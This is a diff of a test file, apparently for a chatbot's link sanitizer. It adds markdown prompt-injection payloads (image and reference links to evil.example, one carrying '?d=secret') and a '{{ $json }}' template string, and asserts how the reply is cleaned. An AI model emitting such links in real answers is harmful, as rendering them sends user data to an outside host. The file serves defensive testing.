@@ -352,7 +352,7 @@ insert into rag_passages (text, metadata, embedding) values ('Half a version', '
           ? { answer: 'From general knowledge. '.repeat(8), sources: [] }
           : {
               answer:
-                'Yes ![x](https://evil.example/?d=secret) see [this](https://evil.example) or https://evil.example/a',
+                'Yes ![x](https://evil.example/?d=secret) see [this](https://evil.example) or https://evil.example/a ![a [b]](//evil.example) <https:evil.example> [c][d]\n\n[d]: //evil.example',
               sources: [
                 'https://evil.example',
                 REMOTE,
@@ -371,7 +371,7 @@ insert into rag_passages (text, metadata, embedding) values ('Half a version', '
     ],
     check(outcome) {
       assert.deepEqual(replies(outcome), [
-        'Yes x see this or\n\nSources:\n1. [https://evil.example {{ $json }}, Remote work](https://docs.google.com/document/d/1evil/edit#heading=h.1), changed Nov 10, 2026',
+        'Yes x see this or  !a b(//evil.example) https:evil.example> cd\n\nd: //evil.example\n\nSources:\n1. [https://evil.example {{ $json }}, Remote work](https://docs.google.com/document/d/1evil/edit#heading=h.1), changed Nov 10, 2026',
         UNKNOWN,
         UNKNOWN,
       ])
